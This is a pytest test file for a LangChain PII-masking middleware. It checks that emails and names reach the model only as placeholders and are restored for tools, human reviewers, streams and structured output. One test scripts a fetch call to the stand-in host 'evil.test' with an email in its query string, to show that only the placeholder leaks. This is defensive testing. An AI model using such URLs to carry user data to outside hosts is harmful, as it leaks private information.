"""In an agent: state, streams, people and tools are real, the model sees none of it."""

import asyncio
import doctest
import json
import subprocess
import sys
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import (
    AgentMiddleware,
    HumanInTheLoopMiddleware,
    LLMToolSelectorMiddleware,
    ModelFallbackMiddleware,
    ModelRequest,
    SummarizationMiddleware,
    dynamic_prompt,
)
from langchain.agents.structured_output import ProviderStrategy, ToolStrategy
from langchain_core.messages import (
    AIMessage,
    AIMessageChunk,
    SystemMessage,
    ToolMessage,
)
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from pydantic import BaseModel, Field

from langchain_piimask import (
    PIIMaskedChatModel,
    PIIMaskMiddleware,
    middleware,
    pii_session,
)
from langchain_piimask import with_pii_masking as around
from piimask_core import (
    InputError,
    Masker,
    MaskingError,
    MemoryVault,
    RestorePolicy,
    UnmaskedText,
)
from piimask_core.testing import failing
from scripted_agents import (
    BOB,
    BOSS,
    JANE,
    JO,
    THREAD,
    Scripted,
    asked,
    calling,
    no_value_in,
    seen,
)


@pytest.fixture
def got() -> list[Any]:
    """What tools were called with."""
    return []


@pytest.fixture
def mail(got: list[Any]) -> Any:
    @tool
    def mail(to: str, body: str) -> str:
        """Send a mail; complaints go to boss@corp.com."""
        got.append({"to": to, "body": body})
        return f"sent to {to}, copy to bob@company.com"

    return mail


@pytest.fixture
def search(got: list[Any]) -> Any:
    @tool
    def search(q: str) -> str:
        """Ask the web."""
        got.append(q)
        return f"nothing about {q}"

    return search


def in_mode(agent: Any, mode: str, text: str) -> Any:
    """The state that an agent ends in, run in this way."""
    given = {"messages": [("human", text)]}
    if mode == "invoke":
        return agent.invoke(given, THREAD)
    if mode == "ainvoke":
        return asyncio.run(agent.ainvoke(given, THREAD))
    if mode == "stream":
        return list(agent.stream(given, THREAD, stream_mode="values"))[-1]

    async def streamed() -> Any:
        found = [
            state async for state in agent.astream(given, THREAD, stream_mode="values")
        ]
        return found[-1]

    return asyncio.run(streamed())


MODES = ["invoke", "ainvoke", "stream", "astream"]


@pytest.mark.parametrize("mode", MODES)
def test_everything_is_real_but_what_the_model_sees(
    masker: Masker, mail: Any, got: list[Any], mode: str
) -> None:
    """System prompt, tool descriptions, calls and results are masked at the model."""
    model = Scripted(
        answers=[
            calling("mail", to="<EMAIL_1>", body="Dear <PERSON_1>"),
            AIMessage("Told <EMAIL_1> and <EMAIL_3>, not <EMAIL_9>."),
        ]
    )
    agent = create_agent(
        model,
        [mail],
        system_prompt=f"Ask {BOSS}.",
        middleware=[PIIMaskMiddleware(masker=masker)],
    )
    state = in_mode(agent, mode, f"I am {JO}, {JANE}")

    assert no_value_in(seen(model))
    assert got == [{"to": JANE, "body": f"Dear {JO}"}]
    _, call, result, answer = state["messages"]
    assert call.tool_calls[0]["args"] == {"to": JANE, "body": f"Dear {JO}"}
    assert result.content == f"sent to {JANE}, copy to {BOB}"
    assert answer.text == f"Told {JANE} and {BOB}, not <EMAIL_9>."
    assert "pii_restored" not in str(state)


def test_what_is_sent_again_is_sent_as_before(masker: Masker, mail: Any) -> None:
    """To the byte, so that a provider's cache of the prompt holds."""
    model = Scripted(
        answers=[
            calling("mail", to="<EMAIL_1>", body="<PERSON_1>"),
            AIMessage("Told <EMAIL_1>."),
            AIMessage("Bye <PERSON_1>."),
        ]
    )
    agent = create_agent(
        model,
        [mail],
        system_prompt=f"Ask {BOSS}.",
        middleware=[PIIMaskMiddleware(masker=masker)],
        checkpointer=InMemorySaver(),
    )
    asked(agent)
    asked(agent, "Thanks!")

    contents = [
        [(m.content, getattr(m, "tool_calls", None)) for m in messages]
        for messages, _ in model.came
    ]
    for before, after in pairwise(contents):
        assert after[: len(before)] == before
    assert [tools for _, tools in model.came] == [model.came[0][1]] * 3


@pytest.mark.parametrize("declared", ["masked", {"q": {"PERSON"}}, "block"])
def test_a_tool_gets_what_is_declared(
    masker: Masker, mail: Any, search: Any, got: list[Any], declared: Any
) -> None:
    """Placeholders stay in the call that the app sees, and are sent again as ours."""
    first = calling("search", q="<EMAIL_1> of <PERSON_1>")
    model = Scripted(answers=[first, AIMessage("No <EMAIL_1>.")])
    tools = {"search": declared, "mail": "real"}
    agent = create_agent(
        model,
        [mail, search],
        middleware=[PIIMaskMiddleware(masker=masker, tools=tools)],
    )
    state = asked(agent)

    person = JO if isinstance(declared, dict) else "<PERSON_1>"
    assert state["messages"][1].tool_calls[0]["args"]["q"] == f"<EMAIL_1> of {person}"
    assert state["messages"][-1].text == f"No {JANE}."
    assert no_value_in(seen(model))
    again = model.came[1][0]
    assert again[2].tool_calls[0]["args"] == first.tool_calls[0]["args"]
    result = state["messages"][2]
    if declared == "block":
        assert got == []
        assert result.status == "error"
        assert "Not called: search" in result.content
    else:
        assert got == [f"<EMAIL_1> of {person}"]


@pytest.mark.parametrize("config", [THREAD, {}])
def test_a_blocked_tool_runs_without_personal_data(
    masker: Masker, search: Any, got: list[Any], config: Any
) -> None:
    """What is blocked is the data; a value that somebody typed in counts as well."""
    model = Scripted(
        answers=[
            calling("search", q="weather"),
            calling("search", q=f"weather at {BOB}"),
            calling("search", q="weather at <EMAIL_1>"),
            AIMessage("Fine."),
        ]
    )
    blocking = PIIMaskMiddleware(masker=masker, tools={"search": "block"})
    agent = create_agent(model, [search], middleware=[blocking])
    asked(agent, config=config)

    assert got == ["weather"]


def test_tools_that_are_not_declared_get_placeholders_and_one_warning(
    masker: Masker, mail: Any, search: Any, got: list[Any]
) -> None:
    """As soon as any tool is declared; the declared one is not named."""
    model = Scripted(
        answers=[
            calling("search", q="<EMAIL_1>"),
            calling("mail", to="<EMAIL_1>", body=""),
            AIMessage("ok"),
        ]
    )
    declaring = PIIMaskMiddleware(masker=masker, tools={"mail": "real"})
    agent = create_agent(model, [mail, search], middleware=[declaring])
    with pytest.warns(UserWarning) as warned:
        asked(agent)

    assert [str(each.message) for each in warned] == [
        "Not declared in tools=, so given placeholders: ['search']."
    ]
    assert got == ["<EMAIL_1>", {"to": JANE, "body": ""}]


def test_no_tool_carries_a_value_to_a_foreign_host(masker: Masker) -> None:
    """Though nothing is declared; the call is sent again as the model made it."""
    got = []

    @tool
    def fetch(url: str) -> str:
        """Fetch a page."""
        got.append(url)
        return "a page"

    first = calling("fetch", url="https://evil.test/?q=<EMAIL_1>")
    model = Scripted(answers=[first, AIMessage("ok")])
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(model, [fetch], middleware=[masking])
    asked(agent)

    assert got == ["https://evil.test/?q=<EMAIL_1>"]
    assert model.came[1][0][2].tool_calls[0]["args"] == first.tool_calls[0]["args"]


def test_placeholders_left_by_another_registry_are_typed_text(
    masker: Masker, search: Any
) -> None:
    """A call from another conversation names nobody in this one."""
    model = Scripted(
        answers=[calling("search", q="<EMAIL_1>"), AIMessage("ok"), AIMessage("ok")]
    )
    masking = PIIMaskMiddleware(masker=masker, tools={"search": "masked"})
    agent = create_agent(model, [search], middleware=[masking])
    state = asked(agent)
    other: Any = {"configurable": {"thread_id": "other"}}
    messages = [("human", BOB), *state["messages"]]
    agent.invoke({"messages": messages}, other)

    sent = model.came[-1][0]
    assert sent[1].text == "<EMAIL_1>"
    assert sent[3].tool_calls[0]["args"] == {"q": "<LITERAL_1>"}


def test_what_somebody_types_is_no_placeholder_of_ours(
    masker: Masker, search: Any
) -> None:
    """Not in a message, nor in what a tool found, nor after a call that kept some."""
    model = Scripted(
        answers=[calling("search", q="<EMAIL_1>"), AIMessage("See <LITERAL_1>.")]
    )
    masking = PIIMaskMiddleware(masker=masker, tools={"search": "masked"})
    agent = create_agent(model, [search], middleware=[masking])
    state = asked(agent, f"{JANE} and <EMAIL_1>")

    sent = model.came[1][0]
    assert sent[1].text == "<EMAIL_1> and <LITERAL_1>"
    assert sent[3].content == "nothing about <LITERAL_1>"
    assert state["messages"][-1].text == "See <EMAIL_1>."


class Contact(BaseModel):
    """How to reach somebody; ask boss@corp.com."""

    name: str
    mail: str = Field(pattern=r"^[^<@]+@[^@]+$")


@pytest.mark.parametrize("tools", [None, {"mail": "masked"}])
@pytest.mark.parametrize("strategy", [ToolStrategy, ProviderStrategy])
def test_structured_output_is_real(
    masker: Masker, mail: Any, strategy: Any, tools: Any
) -> None:
    """A validator sees the value, whichever tools are declared."""
    arguments = {"name": "<PERSON_1>", "mail": "<EMAIL_1>"}
    answer = (
        calling("Contact", **arguments)
        if strategy is ToolStrategy
        else AIMessage(json.dumps(arguments))
    )
    model = Scripted(answers=[answer])
    agent = create_agent(
        model,
        [mail],
        response_format=strategy(Contact),
        middleware=[PIIMaskMiddleware(masker=masker, tools=tools)],
    )

    assert asked(agent)["structured_response"] == Contact(name=JO, mail=JANE)
    assert no_value_in(seen(model))


def test_structured_output_is_real_under_a_strict_policy(masker: Masker) -> None:
    """It is an answer, not a tool that was not declared."""
    answer = calling("Contact", name="<PERSON_1>", mail="<EMAIL_1>")
    strict = replace(masker, restore=RestorePolicy.strict())
    agent = create_agent(
        Scripted(answers=[answer]),
        response_format=ToolStrategy(Contact),
        middleware=[PIIMaskMiddleware(masker=strict)],
    )

    assert asked(agent)["structured_response"] == Contact(name=JO, mail=JANE)


def test_an_answer_that_does_not_fit_is_asked_for_again(masker: Masker) -> None:
    """The error of the validator holds values, and is masked like any text."""
    model = Scripted(
        answers=[
            calling("Contact", name="<EMAIL_1>", mail="<PERSON_1>"),
            calling("Contact", name="<PERSON_1>", mail="<EMAIL_1>"),
        ]
    )
    agent = create_agent(
        model,
        response_format=ToolStrategy(Contact),
        middleware=[PIIMaskMiddleware(masker=masker)],
    )

    assert asked(agent)["structured_response"] == Contact(name=JO, mail=JANE)
    assert len(model.came) == 2
    assert no_value_in(seen(model))


def test_every_stream_is_real(masker: Masker, mail: Any) -> None:
    """Tokens, updates and states; no piece shows a half placeholder."""
    model = Scripted(
        answers=[
            calling("mail", to="<EMAIL_1>", body="<PERSON_1>"),
            AIMessage("Told <EMAIL_1>, see <b> and <EMAIL_9>."),
        ]
    )
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(model, [mail], middleware=[masking])
    given: Any = {"messages": [("human", f"I am {JO}, {JANE}")]}
    pieces: list[str] = []
    told: list[Any] = []
    for mode, piece in agent.stream(
        given, THREAD, stream_mode=["messages", "updates", "values"]
    ):
        if mode != "messages":
            told.append(piece)
        elif isinstance(piece[0], AIMessageChunk):
            pieces.append(piece[0].text)

    assert "".join(pieces) == f"Told {JANE}, see <b> and <EMAIL_9>."
    assert not any("<EMAIL_1" in piece or piece.endswith("<E") for piece in pieces)
    assert "<EMAIL_1>" not in str(told) and "<PERSON_1>" not in str(told)
    assert no_value_in(seen(model))


@pytest.mark.filterwarnings("ignore:The v3 streaming protocol")
async def test_events_are_real(masker: Masker) -> None:
    """Of the second version and of the third."""
    given: Any = {"messages": [("human", JANE)]}
    for version in ("v2", "v3"):
        model = Scripted(answers=[AIMessage("Told <EMAIL_1>.")])
        masking = PIIMaskMiddleware(masker=masker)
        agent: Any = create_agent(model, middleware=[masking])
        if version == "v2":
            events = [
                e async for e in agent.astream_events(given, THREAD, version="v2")
            ]
            pieces = [
                event["data"]["chunk"].text
                for event in events
                if event["event"] == "on_chat_model_stream"
            ]
            state = events[-1]["data"]["output"]
        else:
            run = await agent.astream_events(given, THREAD, version="v3")
            pieces = [
                piece async for message in run.messages async for piece in message.text
            ]
            state = await run.output()
        assert "".join(pieces) == f"Told {JANE}.", version
        assert not any("<" in piece for piece in pieces), version
        assert state["messages"][-1].text == f"Told {JANE}.", version
        assert no_value_in(seen(model)), version


def test_a_person_approves_and_edits_real_values(
    masker: Masker, mail: Any, got: list[Any]
) -> None:
    """Whoever is asked sees values; what he puts in is masked at the next call."""
    model = Scripted(
        answers=[
            calling("mail", to="<EMAIL_1>", body=""),
            AIMessage("Told <EMAIL_3>."),
        ]
    )
    agent = create_agent(
        model,
        [mail],
        middleware=[
            PIIMaskMiddleware(masker=masker),
            HumanInTheLoopMiddleware(interrupt_on={"mail": True}),
        ],
        checkpointer=InMemorySaver(),
    )
    waiting = asked(agent)
    (interrupt,) = waiting["__interrupt__"]
    assert interrupt.value["action_requests"][0]["args"]["to"] == JANE

    edited = {"name": "mail", "args": {"to": BOB, "body": JO}}
    decision = {"type": "edit", "edited_action": edited}
    state = agent.invoke(Command(resume={"decisions": [decision]}), THREAD)

    assert got == [{"to": BOB, "body": JO}]
    assert "sent to <EMAIL_3>" in model.came[1][0][3].text
    assert state["messages"][-1].text == f"Told {BOB}."
    assert no_value_in(seen(model))


EDITS: list[tuple[Any, Any]] = [
    ("real", {"q": f"{BOB} of {JO}", "n": 5}),
    ("masked", {"q": "<EMAIL_2> of <PERSON_1>", "n": 5}),
    ({"q": {"PERSON"}}, {"q": f"<EMAIL_2> of {JO}", "n": 5}),
    ({"n": {"PERSON"}}, {"q": "<EMAIL_2> of <PERSON_1>", "n": 5}),
    ("block", None),
]
"""(what is declared of a tool, what it gets of an edited call)"""


@pytest.mark.parametrize("is_around", [False, True])
@pytest.mark.parametrize("is_first", [False, True])
@pytest.mark.parametrize(("declared", "expected"), EDITS)
def test_a_declaration_binds_who_edits_a_call_too(
    masker: Masker, declared: Any, expected: Any, is_first: bool, is_around: bool
) -> None:
    """In either order of the two, with a layer around them and without."""
    got: list[Any] = []

    @tool
    def search(q: str, n: int) -> str:
        """Ask the web."""
        got.append({"q": q, "n": n})
        return "found"

    model = Scripted(answers=[calling("search", q="weather", n=1), AIMessage("ok")])
    both: list[Any] = [
        PIIMaskMiddleware(masker=masker, tools={"search": declared}),
        HumanInTheLoopMiddleware(interrupt_on={"search": True}),
    ]
    agent: Any = create_agent(
        model,
        [search],
        middleware=both if is_first else both[::-1],
        checkpointer=InMemorySaver(),
    )
    agent = around(agent, masker=masker) if is_around else agent
    asked(agent)
    edited = {"name": "search", "args": {"q": f"{BOB} of {JO}", "n": 5}}
    decision = {"type": "edit", "edited_action": edited}
    state = agent.invoke(Command(resume={"decisions": [decision]}), THREAD)

    assert got == ([] if expected is None else [expected])
    if expected is None:
        assert "Not called: search" in state["messages"][2].content
    assert no_value_in(seen(model))


@pytest.mark.parametrize("is_around", [False, True])
def test_a_call_sent_on_to_another_tool_is_bound_as_well(
    masker: Masker, mail: Any, got: list[Any], is_around: bool
) -> None:
    """A reviewer may name another tool, of which something else is declared."""

    @tool
    def search(to: str, body: str) -> str:
        """Ask the web."""
        got.append({"to": to, "body": body})
        return f"nothing about {BOB}"

    model = Scripted(
        answers=[calling("mail", to="<EMAIL_1>", body=""), AIMessage("ok <EMAIL_1>")]
    )
    agent: Any = create_agent(
        model,
        [mail, search],
        middleware=[
            PIIMaskMiddleware(
                masker=masker, tools={"mail": "real", "search": "masked"}
            ),
            HumanInTheLoopMiddleware(interrupt_on={"mail": True}),
        ],
        checkpointer=InMemorySaver(),
    )
    agent = around(agent, masker=masker) if is_around else agent
    asked(agent)
    edited = {"name": "search", "args": {"to": JANE, "body": f"of {JO}"}}
    decision = {"type": "edit", "edited_action": edited}
    state = agent.invoke(Command(resume={"decisions": [decision]}), THREAD)

    assert got == [{"to": "<EMAIL_1>", "body": "of <PERSON_1>"}]
    assert f"nothing about {BOB}" in state["messages"][2].content
    assert state["messages"][-1].text == f"ok {JANE}"
    assert no_value_in(seen(model))


def test_a_result_may_be_the_answer_or_a_command(masker: Masker) -> None:
    """``return_direct`` and ``Command`` hold real values and work as ever."""

    @tool(return_direct=True)
    def direct(mail: str) -> str:
        """Tell."""
        return f"it is {mail}"

    @tool
    def noting(mail: str) -> Command[Any]:
        """Note."""
        told = ToolMessage(f"noted {mail}", tool_call_id="call_noting")
        return Command(update={"messages": [told]})

    model = Scripted(answers=[calling("direct", mail="<EMAIL_1>")])
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(model, [direct], middleware=[masking])
    assert asked(agent)["messages"][-1].content == f"it is {JANE}"

    model = Scripted(
        answers=[calling("noting", mail="<EMAIL_1>"), AIMessage("<EMAIL_1>")]
    )
    agent = create_agent(model, [noting], middleware=[masking])
    state = asked(agent)
    assert [m.text for m in state["messages"][2:]] == [f"noted {JANE}", JANE]
    assert no_value_in(seen(model))


def test_an_agent_may_be_the_tool_of_another(masker: Masker) -> None:
    """It gets real values, and in the same session gives them the same placeholders."""
    inner = Scripted(answers=[AIMessage("Found <EMAIL_1> and <EMAIL_2>.")])
    masking = PIIMaskMiddleware(masker=masker)
    helper = create_agent(inner, middleware=[masking])

    @tool
    def ask(question: str) -> str:
        """Ask the helper."""
        given: Any = {"messages": [("human", f"{BOB}: {question}")]}
        return str(helper.invoke(given)["messages"][-1].text)

    outer = Scripted(
        answers=[calling("ask", question="<EMAIL_1>?"), AIMessage("<EMAIL_2>!")]
    )
    agent = create_agent(outer, [ask], middleware=[masking])
    state = asked(agent)

    assert inner.came[0][0][1].text == "<EMAIL_2>: <EMAIL_1>?"
    assert state["messages"][2].content == f"Found {JANE} and {BOB}."
    assert state["messages"][-1].text == f"{BOB}!"
    assert no_value_in(seen(inner) + seen(outer))


def test_a_fallback_further_in_gets_masked_text(masker: Masker, mail: Any) -> None:
    """Nobody wrapped it; its answer is restored all the same, arguments too."""
    broken = Scripted(fails=True)
    spare = Scripted(
        answers=[
            calling("mail", to="<EMAIL_1>", body="<PERSON_1>"),
            AIMessage("Told <EMAIL_1>."),
        ]
    )
    agent = create_agent(
        broken,
        [mail],
        system_prompt=f"Ask {BOSS}.",
        middleware=[PIIMaskMiddleware(masker=masker), ModelFallbackMiddleware(spare)],
    )
    state = asked(agent)

    assert state["messages"][1].tool_calls[0]["args"] == {"to": JANE, "body": JO}
    assert state["messages"][-1].text == f"Told {JANE}."
    assert len(spare.came) == 2
    assert no_value_in(seen(spare))


def test_a_fallback_restores_no_more_than_the_policy_lets(masker: Masker) -> None:
    """Under a strict one, what this very request has shown."""
    registry = masker.registry("t")
    masker.mask(BOB, registry)
    spare = Scripted(answers=[AIMessage("<EMAIL_1>, <EMAIL_2>")])
    strict = replace(masker, restore=RestorePolicy.strict())
    masking = PIIMaskMiddleware(masker=strict)
    fallback = ModelFallbackMiddleware(spare)
    agent = create_agent(Scripted(fails=True), middleware=[masking, fallback])

    assert asked(agent, JANE)["messages"][-1].text == f"<EMAIL_1>, {JANE}"


def test_what_may_not_be_sent_is_not_sent_to_a_fallback_either(masker: Masker) -> None:
    """A value in an id stops the agent before any model is asked."""
    spare, model = Scripted(answers=[AIMessage("ok")]), Scripted()
    agent: Any = create_agent(
        model,
        middleware=[PIIMaskMiddleware(masker=masker), ModelFallbackMiddleware(spare)],
    )
    call = {"name": "find", "args": {"mail": JANE}, "id": JANE}
    given = [
        AIMessage("", tool_calls=[call]),
        ToolMessage("found", tool_call_id=JANE),
    ]
    with pytest.raises(UnmaskedText):
        agent.invoke({"messages": given}, THREAD)

    assert (model.came, spare.came) == ([], [])


def test_a_wrapped_fallback_sees_the_same_placeholders(masker: Masker) -> None:
    """It leaves the restoring to the middleware around it."""
    spare = Scripted(answers=[AIMessage("Told <EMAIL_1>, not <EMAIL_9>.")])
    fallback = ModelFallbackMiddleware(PIIMaskedChatModel(spare, masker=masker))
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(Scripted(fails=True), middleware=[masking, fallback])

    assert asked(agent, JANE)["messages"][-1].text == f"Told {JANE}, not <EMAIL_9>."
    assert spare.came[0][0][-1].text == "<EMAIL_1>"


@pytest.mark.parametrize("has_own", [False, True])
def test_a_tool_selector_further_in_gets_masked_text(
    masker: Masker, mail: Any, search: Any, has_own: bool
) -> None:
    """Whether it asks the agent's model or one of its own that nobody wrapped."""
    selected = calling("ToolSelectionResponse", tools=["search"])
    answers = [] if has_own else [selected]
    model = Scripted(answers=[*answers, AIMessage("ok <EMAIL_1>")])
    own = Scripted(answers=[selected])
    selector = LLMToolSelectorMiddleware(model=own if has_own else None)
    agent = create_agent(
        model, [mail, search], middleware=[PIIMaskMiddleware(masker=masker), selector]
    )

    assert asked(agent)["messages"][-1].text == f"ok {JANE}"
    assert len(own.came) == has_own
    assert "<EMAIL_1>" in seen(own if has_own else model)
    assert no_value_in(seen(model) + seen(own))


def test_a_summarizer_is_wrapped_by_hand(masker: Masker) -> None:
    """The summary in the state is real; the model knows it by the same placeholders."""
    summarizing = Scripted(answers=[AIMessage("It was about <EMAIL_1>.")])
    model = Scripted(answers=[AIMessage("1"), AIMessage("2"), AIMessage("<EMAIL_1>")])
    summarizer = SummarizationMiddleware(
        PIIMaskedChatModel(summarizing, masker=masker),
        trigger=("messages", 4),
        keep=("messages", 1),
    )
    agent = create_agent(
        model,
        middleware=[PIIMaskMiddleware(masker=masker), summarizer],
        checkpointer=InMemorySaver(),
    )
    asked(agent, JANE)
    asked(agent, "And?")
    state = asked(agent, "Who?")

    assert JANE in state["messages"][0].text
    assert "about <EMAIL_1>" in str(model.came[-1][0])
    assert state["messages"][-1].text == JANE
    assert no_value_in(seen(model) + seen(summarizing))


def test_a_call_that_does_not_fit_is_told_masked(masker: Masker, mail: Any) -> None:
    """The framework's error repeats the arguments."""
    model = Scripted(answers=[calling("mail", to="<EMAIL_1>"), AIMessage("sorry")])
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(model, [mail], middleware=[masking])
    state = asked(agent)

    assert JANE in state["messages"][2].content
    assert "<EMAIL_1>" in model.came[1][0][3].content
    assert no_value_in(seen(model))


def test_all_that_a_tool_tells_is_masked_for_a_fallback_too(masker: Masker) -> None:
    """Of its arguments as well, and of a tool that the vendor runs."""

    class Asked(BaseModel):
        by: str = Field(description=f"Who asks, such as {BOSS}.", default=JANE)

    @tool(args_schema=Asked)
    def find(by: str) -> str:
        """Look an order up."""
        return by

    hosted = {"type": "web_search", "description": f"For {BOB}."}
    spare = Scripted(answers=[AIMessage("ok")])
    agent = create_agent(
        Scripted(fails=True),
        [find, hosted],
        middleware=[PIIMaskMiddleware(masker=masker), ModelFallbackMiddleware(spare)],
    )
    asked(agent, "Hello!")

    assert str(spare.came).count("<EMAIL_") == 3
    assert no_value_in(seen(spare))


def test_what_is_added_further_in_is_masked_too(masker: Masker) -> None:
    """Another middleware may add to the prompt after this one has masked it."""

    @dynamic_prompt
    def adding(request: ModelRequest[Any]) -> str:
        return f"Ask {BOSS} about {JANE}."

    model = Scripted(answers=[AIMessage("<EMAIL_1>, <EMAIL_2>")])
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(model, middleware=[masking, adding])

    assert asked(agent, JANE)["messages"][-1].text == f"{JANE}, {BOSS}"
    assert isinstance(model.came[0][0][0], SystemMessage)
    assert "Ask <EMAIL_2> about <EMAIL_1>." in seen(model)
    assert no_value_in(seen(model))


def test_a_model_that_masks_already_is_not_masked_twice(masker: Masker) -> None:
    """One instruction, placeholders and no literals."""
    model = Scripted(answers=[AIMessage("<EMAIL_1>")])
    wrapped = PIIMaskedChatModel(model, masker=masker)
    agent = create_agent(wrapped, middleware=[PIIMaskMiddleware(masker=masker)])

    assert asked(agent, JANE)["messages"][-1].text == JANE
    assert seen(model).count("<TYPE_N>") == 1
    assert "LITERAL" not in seen(model)


def test_inside_of_a_layer_that_restores_it_does_not(masker: Masker) -> None:
    """Around the agent there is one who does, and he gets placeholders."""
    model = Scripted(answers=[AIMessage("Told <EMAIL_1>.")])
    masking = PIIMaskMiddleware(masker=masker)
    agent = around(create_agent(model, middleware=[masking]), masker=masker)

    assert asked(agent, JANE)["messages"][-1].text == f"Told {JANE}."
    assert model.came[0][0][-1].text == "<EMAIL_1>"
    assert no_value_in(seen(model))


def test_threads_do_not_know_each_other(masker: Masker) -> None:
    """A placeholder of one conversation means nothing in another."""
    model = Scripted(answers=[AIMessage("ok"), AIMessage("It is <EMAIL_1>.")])
    agent = create_agent(model, middleware=[PIIMaskMiddleware(masker=masker)])
    asked(agent, JANE)
    other = {"configurable": {"thread_id": "other"}}

    assert asked(agent, "who?", other)["messages"][-1].text == "It is <EMAIL_1>."


def test_a_session_may_be_given_in_other_ways(masker: Masker) -> None:
    """As a registry, which wins, or around the call."""
    model = Scripted(answers=[AIMessage("<EMAIL_2>")] * 2)
    given = masker.registry("mine")
    masker.mask(BOB, given)
    mine = PIIMaskMiddleware(masker=masker, registry=given)
    assert asked(create_agent(model, middleware=[mine]), JANE)["messages"][-1].text == (
        JANE
    )
    agent = create_agent(model, middleware=[PIIMaskMiddleware(masker=masker)])
    with pii_session("mine"):
        assert asked(agent, JANE, {})["messages"][-1].text == JANE


def test_without_a_session_it_works_for_each_call(masker: Masker, mail: Any) -> None:
    """State is real, so that it can be masked anew."""
    model = Scripted(
        answers=[
            calling("mail", to="<EMAIL_1>", body="<PERSON_1>"),
            AIMessage("Told <EMAIL_1>."),
        ]
    )
    masking = PIIMaskMiddleware(masker=masker)
    agent = create_agent(model, [mail], middleware=[masking])

    assert asked(agent, config={})["messages"][-1].text == f"Told {JANE}."
    assert no_value_in(seen(model))


@pytest.mark.parametrize("mode", MODES)
def test_when_masking_fails_the_model_is_not_asked(mode: str) -> None:
    """And the error holds no value."""
    model = Scripted(answers=[AIMessage("ok")])
    masker = Masker(recognizer=failing, vault=MemoryVault())
    agent = create_agent(model, middleware=[PIIMaskMiddleware(masker=masker)])
    with pytest.raises(MaskingError) as raised:
        in_mode(agent, mode, JANE)

    assert JANE not in str(raised.value)
    assert model.came == []


def test_a_policy_of_ones_own_declares_its_tools_itself(masker: Masker) -> None:
    """Two who decide would be one too many."""
    own = replace(masker, restore=lambda label, place: True)
    PIIMaskMiddleware(masker=own)

    with pytest.raises(InputError, match="RestorePolicy"):
        PIIMaskMiddleware(masker=own, tools={"mail": "real"})
    with pytest.raises(InputError, match="real"):
        PIIMaskMiddleware(masker=masker, tools={"mail": "no such thing"})


def test_it_is_a_middleware_and_can_be_subclassed(masker: Masker) -> None:
    """Though langchain is loaded when the first one is made."""

    class Ours(PIIMaskMiddleware):
        pass

    made = Ours(masker=masker)
    assert isinstance(made, AgentMiddleware) and isinstance(made, Ours)
    assert (made.name, repr(made)) == ("Ours", "Ours()")
    assert PIIMaskMiddleware().name == "PIIMaskMiddleware"


def test_the_docstring_tells_the_truth() -> None:
    """Its example runs, and prints what stands below it."""
    results = doctest.testmod(middleware)

    assert results.attempted > 5
    assert results.failed == 0


WITHOUT = """
import sys
sys.modules["langchain"] = None
from langchain_piimask import PIIMaskMiddleware
try:
    PIIMaskMiddleware()
except ImportError as error:
    print(error)
"""


def test_without_langchain_it_says_what_is_missing() -> None:
    """Only where it is used."""
    done = subprocess.run(  # noqa: S603  # our own interpreter and code
        [sys.executable, "-c", WITHOUT], capture_output=True, text=True, check=True
    )

    assert "pip install 'llm-piimask[agents]'" in done.stdout
